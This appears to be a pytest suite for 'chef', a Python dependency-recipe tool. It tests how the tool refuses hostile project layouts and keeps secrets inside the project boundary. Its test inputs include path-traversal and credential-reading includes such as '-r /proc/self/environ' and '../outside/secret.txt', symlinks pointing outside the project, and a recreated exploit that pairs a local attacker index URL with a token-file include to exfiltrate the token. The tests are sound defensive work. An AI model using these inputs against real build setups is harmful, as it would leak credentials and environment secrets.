"""Hostile project layouts, one by one: unknown lock versions, missing referenced files, include
cycles and deep chains, symlink loops, FIFOs and devices, huge and deeply nested files, non-UTF-8.
Each ends in a one-line ChefError naming the file (and line or key where known)."""

from __future__ import annotations

import contextlib
import json
import os
import sys
from pathlib import Path
from typing import Any, Iterator, List, Optional, Tuple

import pytest
import tomlkit
from badinput_helpers import check_error
from clirun import chef
from conftest import write
from test_fuzz_readers import baseline, write_files

from chef import errors
from chef.detect import READERS
from chef.errors import ChefError
from chef.prepare import prepare


def fails(root: Path, manager: Optional[str] = None, code: int = errors.EXIT_INPUT,
          **kwargs: Any) -> str:
    """prepare refuses the project with one line and `code` (docs/exit-codes.md: a missing,
    malformed or unsupported project file is EXIT_INPUT)."""
    with pytest.raises(ChefError) as info:
        prepare(root, manager=manager, **kwargs)
    return check_error(info.value, root, codes=(code,))


@pytest.fixture(scope="module")
def uv_project(tmp_path_factory: pytest.TempPathFactory, index) -> Path:  # type: ignore[no-untyped-def]
    from projects import make_locked_app

    return make_locked_app(tmp_path_factory.mktemp("bad") / "app", index.url)


LOCK_VERSIONS = [
    ("uv", "uv.lock", ["version"]),
    ("poetry", "poetry.lock", ["metadata", "lock-version"]),
    ("pdm", "pdm.lock", ["metadata", "lock_version"]),
    ("pipenv", "Pipfile.lock", ["_meta", "pipfile-spec"]),
    ("pylock", "pylock.toml", ["lock-version"]),
]


@pytest.mark.parametrize(("manager", "lock", "key"), LOCK_VERSIONS, ids=[c[0] for c in LOCK_VERSIONS])
@pytest.mark.parametrize("value", [99, "9.0", "0.1", "abc"])
def test_unknown_lock_version(
    manager: str, lock: str, key: List[str], value: Any, uv_project: Path, tmp_path: Path
) -> None:
    reader = next(r for r in READERS if r.name == manager)
    files = baseline(reader, uv_project)
    is_json = files[lock].lstrip().startswith(b"{")
    doc: Any = json.loads(files[lock]) if is_json else tomlkit.parse(files[lock].decode())
    table = doc
    for part in key[:-1]:
        table = table[part]
    table[key[-1]] = value
    files[lock] = (json.dumps(doc) if is_json else tomlkit.dumps(doc)).encode()
    write_files(tmp_path, files)
    message = fails(tmp_path, manager)
    # It names the file, the key (version, lock-version, lock_version, pipfile-spec) and the value.
    assert message.startswith(f"{lock}: "), message
    assert key[-1] in message and str(value) in message, message


# ---------------------------------------------------------------- requirements files


def test_missing_include(tmp_path: Path) -> None:
    write(tmp_path / "requirements.txt", "alpha\n-r missing.txt\n")
    message = fails(tmp_path)
    assert message.startswith("requirements.txt:2: ") and "missing.txt" in message
    write(tmp_path / "requirements.txt", "-c nope/constraints.txt\n")
    assert "nope/constraints.txt" in fails(tmp_path)


def test_missing_local_path(tmp_path: Path) -> None:
    write(tmp_path / "requirements.txt", "./libs/missing\n")
    assert "does not exist" in fails(tmp_path)


def test_include_cycle(tmp_path: Path) -> None:
    write(tmp_path / "requirements.txt", "-r a.txt\n")
    write(tmp_path / "a.txt", "alpha\n-r b.txt\n")
    write(tmp_path / "b.txt", "-r a.txt\n")
    message = fails(tmp_path)
    assert "include cycle" in message and "a.txt -> b.txt -> a.txt" in message
    write(tmp_path / "requirements.txt", "-r requirements.txt\n")
    assert "include cycle" in fails(tmp_path)


def test_deep_include_chains(tmp_path: Path) -> None:
    from chef.readers.requirements import MAX_INCLUDE_DEPTH

    depth = MAX_INCLUDE_DEPTH + 5
    write(tmp_path / "requirements.txt", "-r r1.txt\n")
    for i in range(1, depth):
        write(tmp_path / f"r{i}.txt", f"pkg{i}\n-r r{i + 1}.txt\n")
    write(tmp_path / f"r{depth}.txt", "last\n")
    assert "nested too deeply" in fails(tmp_path)
    # Within the limit, a long chain reads fine.
    write(tmp_path / "requirements.txt", f"-r r{depth - MAX_INCLUDE_DEPTH + 2}.txt\n")
    assert "last" in prepare(tmp_path).text


def test_symlink_loops(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").symlink_to("loop.txt")
    (tmp_path / "loop.txt").symlink_to("requirements.txt")
    assert fails(tmp_path, "requirements")
    (tmp_path / "pyproject.toml").symlink_to("pyproject.toml")
    assert fails(tmp_path, "pyproject").startswith("pyproject.toml: ")
    write(tmp_path / "other" / "requirements.txt", "-r loop/requirements.txt\nalpha\n")
    (tmp_path / "other" / "loop").symlink_to(".")
    message = fails(tmp_path, requirements=["other/requirements.txt"])
    assert "include cycle" in message


def test_workspace_glob_through_a_symlink_loop(tmp_path: Path) -> None:
    write(tmp_path / "pyproject.toml",
          '[project]\nname = "root"\nversion = "1"\n\n'
          '[tool.uv.workspace]\nmembers = ["packages/*"]\n')
    write(tmp_path / "packages" / "a" / "pyproject.toml",
          '[project]\nname = "a"\nversion = "1"\ndependencies = ["alpha"]\n')
    (tmp_path / "packages" / "loop").symlink_to("../packages")
    text = prepare(tmp_path).text  # the loop is not a member (no pyproject.toml): no hang
    assert '"alpha"' in text


@contextlib.contextmanager
def blocking_opens(*paths: Path) -> Iterator[List[str]]:
    """Records (and refuses, so that nothing hangs) every open of `paths` that could block: one
    without O_NONBLOCK. Python's audit hooks see every open (builtins.open, io.open, os.open,
    pathlib); a hook cannot be removed, so it is switched off on exit."""
    watched = {os.path.realpath(p) for p in paths}
    seen: List[str] = []
    active = [True]

    def hook(event: str, args: Tuple[Any, ...]) -> None:
        if not active[0] or event != "open" or not isinstance(args[0], (str, bytes, os.PathLike)):
            return
        path = os.path.realpath(os.fsdecode(args[0]))
        flags = args[2] if len(args) > 2 and isinstance(args[2], int) else 0
        if path in watched and not flags & getattr(os, "O_NONBLOCK", 0):
            seen.append(f"{path} (mode {args[1]!r}, flags {flags:#o})")
            raise PermissionError(f"test: blocking open of {path}")

    sys.addaudithook(hook)
    try:
        yield seen
    finally:
        active[0] = False


def test_blocking_opens_are_seen(tmp_path: Path) -> None:
    """The probe above works: a plain open is seen, a non-blocking one is not."""
    target = write(tmp_path / "f.txt", "x")
    with blocking_opens(target) as seen:
        with pytest.raises(PermissionError):
            target.read_text()
        os.close(os.open(target, os.O_RDONLY | os.O_NONBLOCK))
    assert len(seen) == 1 and "f.txt" in seen[0]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_fifo_and_devices_are_not_read(tmp_path: Path) -> None:
    """A FIFO in place of a file would hang a blocking open() forever (no writer), and /dev/zero
    never ends: chef opens project files without blocking and refuses what is not a regular
    file. Checked without a clock: every open of them is seen, and a blocking one fails."""
    fifo = tmp_path / "requirements.txt"
    os.mkfifo(fifo)
    with blocking_opens(fifo, Path("/dev/zero")) as seen:
        assert fails(tmp_path, "requirements")
        assert fails(tmp_path, requirements=["requirements.txt"])
        os.unlink(fifo)
        if os.path.exists("/dev/zero"):
            (tmp_path / "pyproject.toml").symlink_to("/dev/zero")  # refused unopened
            assert "points outside the project" in fails(tmp_path, "pyproject")
    assert not seen, f"chef opened a FIFO or device in blocking mode: {seen}"


def test_file_size_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from chef import toml

    monkeypatch.setattr(toml, "MAX_FILE_BYTES", 1024)
    write(tmp_path / "requirements.txt", "alpha\n" * 1000)
    assert "larger than" in fails(tmp_path)


def _pinned_lines(count: int) -> str:
    digest = "a" * 64
    return "".join(f"pkg{i}==1.0 --hash=sha256:{digest}\n" for i in range(count))


def _work(root: Path, count: int) -> int:
    """Python function calls and returns (profiler events) of one prepare of `count` pinned,
    hashed lines: a measure of work that no clock or machine load changes."""
    import threading

    write(root / "requirements.txt", _pinned_lines(count))
    events = [0]

    def profile(frame: Any, event: str, arg: Any) -> None:
        events[0] += 1

    threading.setprofile(profile)
    sys.setprofile(profile)
    try:
        text = prepare(root).text
    finally:
        sys.setprofile(None)
        threading.setprofile(None)  # type: ignore[arg-type]
    assert text.count('"name": "pkg') == count
    return events[0]


def test_work_grows_linearly_with_the_file(tmp_path: Path) -> None:
    """Reading requirements is linear in their size: doubling the file doubles the work (a
    quadratic step, e.g. a list scanned per line, would quadruple it)."""
    _work(tmp_path / "warm", 10)  # first-use costs (imports, caches) out of the measure
    small, middle, large = (_work(tmp_path / str(n), n) for n in (1000, 2000, 4000))
    first, second = middle - small, large - middle  # per 1000 lines, then per 2000 lines
    assert first > 0 and second <= 2.5 * first, (small, middle, large)


def test_huge_but_real_files_read(tmp_path: Path) -> None:
    """100,000 pinned, hashed lines (about 10 MB) read completely (how fast: bench/prepare.py;
    that the work stays linear: test_work_grows_linearly_with_the_file)."""
    write(tmp_path / "requirements.txt", _pinned_lines(100_000))
    text = prepare(tmp_path).text
    assert text.count('"name": "pkg') == 100_000
    assert text.count("sha256:" + "a" * 64) >= 100_000


def test_huge_single_line_error_stays_short(tmp_path: Path) -> None:
    write(tmp_path / "requirements.txt", "alpha" + ">" * 2_000_000 + "\n")
    message = fails(tmp_path)
    assert message.startswith("requirements.txt:1: ") and len(message) < 3000


def test_deeply_nested_toml_and_json(tmp_path: Path) -> None:
    from chef import toml

    write(tmp_path / "pyproject.toml", "[project]\nname = 'a'\nx = " + "[" * 50_000 + "]" * 50_000
          + "\n")
    if toml.READER_NAME == "toml_rs":  # parses it, on a stack sized for it (test_toml_readers)
        prepare(tmp_path, manager="pyproject")
    else:  # Python's recursion limit: a clear error
        assert fails(tmp_path, "pyproject").startswith("pyproject.toml")
    write(tmp_path / "Pipfile", "[packages]\nalpha = '*'\n")
    write(tmp_path / "Pipfile.lock", "[" * 200_000 + "]" * 200_000)
    if any(r.name == "pipenv" for r in READERS):
        assert fails(tmp_path, "pipenv").startswith("Pipfile.lock")


@pytest.mark.parametrize("name", [r.name for r in READERS])
def test_non_utf8_names_file_and_line(name: str, tmp_path: Path) -> None:
    reader = next(r for r in READERS if r.name == name)
    main = next((m for m in reader.marker_files if "<" not in m), "pyproject.toml")
    write(tmp_path / main, "# ok\n")
    with open(tmp_path / main, "ab") as handle:
        handle.write(b"name = '\xff\xfe'\n")
    message = fails(tmp_path, name)
    assert message.startswith(f"{main}:2: ") and "UTF-8" in message, message


@pytest.mark.parametrize("name", [r.name for r in READERS])
def test_empty_files(name: str, tmp_path: Path) -> None:
    reader = next(r for r in READERS if r.name == name)
    for marker in reader.marker_files:
        if "<" not in marker:
            write(tmp_path / marker, "")
    write(tmp_path / "pyproject.toml", "")
    try:
        prepare(tmp_path, manager=name)
    except ChefError as exc:
        check_error(exc, tmp_path)


def test_dynamic_dependency_file_outside_the_project(tmp_path: Path) -> None:
    write(tmp_path / "secret.txt", "root:x:0:0\n")
    write(tmp_path / "p" / "pyproject.toml",
          '[project]\nname = "a"\nversion = "1"\ndynamic = ["dependencies"]\n\n'
          '[tool.setuptools.dynamic]\ndependencies = {file = ["../secret.txt"]}\n')
    message = fails(tmp_path / "p")
    assert "outside the project" in message and "root:x" not in message


def test_wrong_types_name_the_key(tmp_path: Path) -> None:
    write(tmp_path / "pyproject.toml", '[project]\nname = "a"\nversion = "1"\ndependencies = 5\n')
    message = fails(tmp_path)
    assert message.startswith("pyproject.toml: ") and "project.dependencies" in message
    write(tmp_path / "pyproject.toml", '[project]\nname = "a"\nversion = "1"\n[tool]\nuv = 3\n')
    assert "[tool.uv]" in fails(tmp_path)


# ---------------------------------------------------------------- the command line


BROKEN = {
    "malformed": '[project\nname = "a"\n',
    "wrong type": '[project]\nname = "a"\nversion = "1"\ndependencies = 5\n',
    "bad requirement": '[project]\nname = "a"\nversion = "1"\ndependencies = ["a >= >= 1"]\n',
    "non-utf8": None,
}


@pytest.mark.parametrize("case", sorted(BROKEN))
def test_failed_prepare_leaves_the_recipe_untouched(case: str, tmp_path: Path) -> None:
    write(tmp_path / "pyproject.toml", '[project]\nname = "a"\nversion = "1"\n')
    recipe = tmp_path / "recipe.json"
    assert chef("prepare", "--project-dir", str(tmp_path), "--recipe-path",
                str(recipe)).returncode == 0
    before = recipe.read_bytes()
    content = BROKEN[case]
    if content is None:
        (tmp_path / "pyproject.toml").write_bytes(b'[project]\nname = "\xff"\n')
    else:
        write(tmp_path / "pyproject.toml", content)
    done = chef("prepare", "--project-dir", str(tmp_path), "--recipe-path", str(recipe))
    assert done.returncode == errors.EXIT_INPUT
    lines = [line for line in done.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("chef: error: pyproject.toml"), done.stderr
    assert recipe.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["pyproject.toml", "recipe.json"]


# ---------------------------------------------------------------- the project boundary (issue 19)

SECRET = "TOPSECRET-9f3c1"


def _outside(root: Path, **kwargs: Any) -> str:
    message = fails(root, **kwargs)
    assert "points outside the project directory" in message, message
    assert SECRET not in message, message
    return message


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """`tmp_path/p` is the project; `tmp_path/outside/secret.txt` holds a secret, and so does
    the environment (MYTOKEN)."""
    write(tmp_path / "outside" / "secret.txt", f"{SECRET}\n")
    monkeypatch.setenv("MYTOKEN", SECRET)
    (tmp_path / "p").mkdir()
    return tmp_path / "p"


@pytest.mark.parametrize("line", [
    "-r /proc/self/environ", "-r ../outside/secret.txt", "-c ../outside/secret.txt",
    "--requirement=../outside/secret.txt", "-c/proc/self/environ", "-r link.txt",
    "-r linkdir/secret.txt",
])
def test_requirements_includes_stay_in_the_project(project: Path, line: str) -> None:
    (project / "link.txt").symlink_to("../outside/secret.txt")
    (project / "linkdir").symlink_to("../outside")
    write(project / "requirements.txt", f"alpha\n{line}\n")
    message = _outside(project)
    assert message.startswith("requirements.txt:2: "), message
    assert "environ" not in line or "PATH=" not in message


def test_requirements_include_paths_are_not_expanded(project: Path) -> None:
    """pip would read `-r ${MYTOKEN}`; chef neither expands it nor prints the value."""
    write(project / "requirements.txt", "alpha\n-r ${MYTOKEN}\n")
    message = fails(project)
    assert message.startswith("requirements.txt:2: ") and "environment variables" in message
    assert SECRET not in message
    write(project / "requirements.txt", "alpha\n-r $MYTOKEN/x.txt\n")  # literal, as pip reads it
    message = fails(project)
    assert "not found" in message and SECRET not in message


def test_top_level_input_files_linked_out_of_the_project(project: Path) -> None:
    (project / "requirements.txt").symlink_to("../outside/secret.txt")
    assert _outside(project).startswith("requirements.txt: ")
    assert _outside(project, requirements=["requirements.txt"]).startswith("requirements.txt: ")
    assert "points outside" in _outside(project, requirements=[str(project.parent / "outside"
                                                                   / "secret.txt")])
    (project / "requirements.txt").unlink()
    (project / "pyproject.toml").symlink_to("../outside/secret.txt")
    assert _outside(project).startswith("pyproject.toml: ")
    _outside(project, manager="pyproject")
    for manager, name in (("uv", "uv.lock"), ("poetry", "poetry.lock"), ("pdm", "pdm.lock"),
                          ("pipenv", "Pipfile.lock"), ("pylock", "pylock.toml"),
                          ("setuptools", "setup.cfg")):
        (project / name).symlink_to("../outside/secret.txt")
        _outside(project, manager=manager)
        _outside(project)  # found, and refused unopened
        (project / name).unlink()


def test_local_package_files_linked_out_of_the_project(project: Path) -> None:
    write(project / "pyproject.toml", '[project]\nname = "app"\nversion = "1"\n'
          'dependencies = ["lib"]\n[tool.uv.sources]\nlib = { path = "lib" }\n')
    (project / "lib").mkdir()
    (project / "lib" / "pyproject.toml").symlink_to("../../outside/secret.txt")
    _outside(project)


def test_setup_cfg_file_directives_stay_in_the_project(project: Path) -> None:
    for value in ("file: ../outside/secret.txt", "file: /proc/self/environ",
                  "file: reqs.txt, ../outside/secret.txt"):
        write(project / "reqs.txt", "alpha\n")
        write(project / "setup.cfg", f"[metadata]\nname = a\n[options]\ninstall_requires = "
              f"{value}\n")
        message = _outside(project)
        assert message.startswith("setup.cfg: ") and "options.install_requires" in message
        write(project / "setup.cfg", f"[metadata]\nname = a\n[options]\ninstall_requires = "
              f"alpha\n[options.extras_require]\nx = {value}\n")
        assert "options.extras_require.x" in _outside(project)


@pytest.mark.parametrize("pattern", ["/*/*/*", "/etc", "../*", "packages/../../*", "~/*"])
def test_workspace_member_patterns_stay_in_the_project(project: Path, pattern: str) -> None:
    write(project / "pyproject.toml", f'[tool.uv.workspace]\nmembers = ["{pattern}"]\n')
    message = _outside(project, manager="pyproject")
    assert message.startswith("pyproject.toml: ") and pattern in message


def test_workspace_members_never_walk_out_through_symlinks(project: Path) -> None:
    write(project.parent / "outside" / "evil" / "pyproject.toml",
          '[project]\nname = "evil"\nversion = "1"\ndependencies = ["evil-dep"]\n')
    write(project / "pyproject.toml", '[tool.uv.workspace]\nmembers = ["packages/*", "*/*/*"]\n')
    write(project / "packages" / "a" / "pyproject.toml",
          '[project]\nname = "a"\nversion = "1"\ndependencies = ["alpha"]\n')
    (project / "up").symlink_to("..")  # `*/*/*` would reach ../outside/evil through it
    (project / "packages" / "self").symlink_to(".")
    (project / "loop").symlink_to("packages")  # inside the project: walked, counted once
    result = prepare(project, manager="pyproject")
    assert [d.name for d in result.recipe.roots] == ["alpha"]
    assert "evil" not in result.text
    (project / "packages" / "evil").symlink_to("../../outside/evil")  # a member out: refused
    assert "packages/*" in _outside(project, manager="pyproject")


def test_monorepo_includes_inside_the_project_keep_working(project: Path) -> None:
    write(project / "common.txt", "alpha\n")
    write(project / "services" / "api" / "requirements.txt", "-r ../../common.txt\nbeta\n")
    (project / "services" / "api" / "shared.txt").symlink_to("../../common.txt")
    write(project / "services" / "web" / "requirements.txt", "-c ../api/shared.txt\nalpha\n")
    result = prepare(project, requirements=["services/api/requirements.txt",
                                            "services/web/requirements.txt",
                                            str(project / "common.txt")])
    assert sorted(d.name for d in result.recipe.roots) == ["alpha", "beta"]


def test_recipe_path_linked_out_of_the_project_is_not_written_through(project: Path) -> None:
    """`recipe.json -> ../victim/important.conf` shipped by the repository (chef prepare in a
    planner stage after COPY . .): the victim is untouched, the link becomes the recipe."""
    write(project / "pyproject.toml", '[project]\nname = "a"\nversion = "1"\n'
          'dependencies = ["alpha"]\n')
    victim = write(project.parent / "victim" / "important.conf", "keep\n")
    (project / "recipe.json").symlink_to("../victim/important.conf")
    done = chef("prepare", "--project-dir", str(project), "--recipe-path",
                str(project / "recipe.json"))
    assert done.returncode == 0, done.stderr
    assert victim.read_text() == "keep\n"
    assert not (project / "recipe.json").is_symlink()
    assert '"alpha"' in (project / "recipe.json").read_text()
    (project / "recipe.json").unlink()
    (project / "out").symlink_to("../victim")
    done = chef("prepare", "--project-dir", str(project), "--recipe-path",
                str(project / "out" / "recipe.json"))
    assert done.returncode == errors.EXIT_RECIPE, done.stderr
    assert len(done.stderr.strip().splitlines()) == 1 and "outside the project" in done.stderr
    assert sorted(p.name for p in victim.parent.iterdir()) == ["important.conf"]


def test_include_paths_over_the_name_limit(project: Path) -> None:
    """`-r <5000 characters>` was exit 70 (os.stat's ENAMETOOLONG)."""
    for value in ("a" * 5000, "/".join(["b" * 200] * 30)):
        write(project / "requirements.txt", f"alpha\n-r {value}\n")
        message = fails(project)
        assert message.startswith("requirements.txt:2: ") and "longer than this system allows" in message
    message = fails(project, requirements=["c" * 5000])
    assert "longer than this system allows" in message


def test_a_token_file_never_reaches_the_recipe_or_an_index_url(project: Path) -> None:
    """The issue's exploit: `-i http://127.0.0.1:8765/simple` and `-r` of a token file put the
    token in recipe.json (as a requirement name) and cook asked the attacker's index for it."""
    write(project / "requirements.txt",
          "-i http://127.0.0.1:8765/simple\n-r ../outside/secret.txt\n")
    recipe = project.parent / "recipe.json"
    done = chef("prepare", "--project-dir", str(project), "--recipe-path", str(recipe))
    assert done.returncode == errors.EXIT_INPUT
    assert SECRET not in done.stderr + done.stdout
    assert len(done.stderr.strip().splitlines()) == 1, done.stderr
    assert not recipe.exists()
